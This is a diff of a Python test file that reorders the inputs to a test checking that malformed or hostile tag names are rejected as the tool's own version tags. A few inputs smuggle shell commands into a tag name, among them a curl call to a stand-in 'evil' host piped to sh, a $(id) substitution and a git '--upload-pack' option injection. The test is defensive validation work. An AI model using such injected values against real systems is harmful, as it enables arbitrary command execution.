@@ -41,9 +41,9 @@ def test_the_forms_found_in_the_wild_are_understood(name: str, fields: tuple[str
     "name",
     [
         "", "###", "@@@", "v1.2.3", "release/1.0", "model@v1", "model@v111", "model-prod", "model@0.0.1",
-        "model-prod-v1",        "nn#prod#-1", "@v1.0.0", "a#b#c#d", "m/@v1.0.0", "_m@v1.0.0", "m@v01.0.0", "m@v1.0.0;curl${IFS}evil|sh",
-        "m@v1.0.0\n", "m@v1.0.0$(id)", "--upload-pack=m@v1.0.0", "-x#prod#1", "mltool/approve/m@v1.0.0",
-        "mltool/hold/m", "mltool/other/m/1", "m@created",
+        "model-prod-v1", "nn#prod#-1", "@v1.0.0", "a#b#c#d", "m/@v1.0.0", "_m@v1.0.0", "m@v01.0.0", "m@v1.0.0\n",
+        "m@v1.0.0;curl${IFS}evil|sh", "m@v1.0.0$(id)", "--upload-pack=m@v1.0.0", "-x#prod#1",
+        "mltool/approve/m@v1.0.0", "mltool/hold/m", "mltool/other/m/1", "m@created",
     ],
 )  # fmt: skip
 def test_other_tags_are_none_of_ours(name: str) -> None:
